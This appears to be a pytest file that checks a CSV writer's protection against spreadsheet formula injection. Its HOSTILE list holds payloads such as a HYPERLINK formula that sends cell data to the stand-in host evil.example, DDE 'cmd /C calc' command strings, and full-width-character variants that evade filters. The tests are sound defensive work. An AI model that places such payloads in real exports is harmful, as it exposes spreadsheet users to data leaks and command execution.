"""The one CSV writer for people: formulas stay text in a spreadsheet, numbers stay numbers."""

import csv
import io

import pandas as pd
import pytest

from models.csv_safe import csv_text, frame_csv, safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign: some spreadsheets read it as '='
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_be_a_formula_is_text(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", [-1.5, 3, 0, -7, 2.5e-9, None, True, "-1.5", "+3", "-4e-3", "plain", "", "a=b"]
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_the_writers_neutralise_every_hostile_cell_and_keep_numbers():
    rows = [(value, -1.5, 42) for value in HOSTILE]
    for text in (
        csv_text(("name", "x", "n"), rows),
        frame_csv(pd.DataFrame(rows, columns=["name", "x", "n"])),
    ):
        parsed = list(csv.reader(io.StringIO(text, newline="")))
        assert parsed[0] == ["name", "x", "n"]
        assert [r[0] for r in parsed[1:]] == ["'" + v for v in HOSTILE]
        assert {(r[1], r[2]) for r in parsed[1:]} == {("-1.5", "42")}


def test_a_frame_with_hostile_column_names_is_safe_too():
    text = frame_csv(pd.DataFrame({"=evil()": ["ok"]}))
    assert text.splitlines()[0] == "'=evil()"
